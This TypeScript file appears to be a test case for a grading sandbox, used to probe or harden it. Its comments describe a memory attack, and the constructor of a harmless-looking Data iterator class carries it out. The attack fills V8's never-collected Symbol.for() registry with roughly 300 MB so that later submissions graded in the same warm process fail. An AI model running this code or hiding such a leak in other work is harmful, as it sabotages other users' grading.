// Attack: memory that outlives the submission in a warm child. Symbol.for() puts a symbol in
// V8's registry, which is per isolate (so shared by every realm and Compartment of the child)
// and never collected; its description is a string the learner chooses. A submission that
// registers a few hundred megabytes of descriptions leaves the child close to its
// --max-old-space-size for every student graded after it by the same warm child.
// (Strings longer than 16383 characters all hash by length in V8: they differ at the start, so
// that the registry compares them quickly.)
// Success: a later grading in the same session (honest reference solutions) loses tests
// (out of memory, or timed out while V8 collects garbage), or is slower past a watchdog.
const MB = 1 << 20;
const CAP = 300; // MB: past the 256 MiB a warm child may keep after a grading
let leaked = 0;
const base = 'x'.repeat(MB);
function leak(n: number): void {
  for (let i = 0; i < n && leaked < CAP; i++) {
    Symbol.for(`${leaked}:${Math.random()}${base}`);
    leaked++;
  }
}

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) { leak(30); }
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
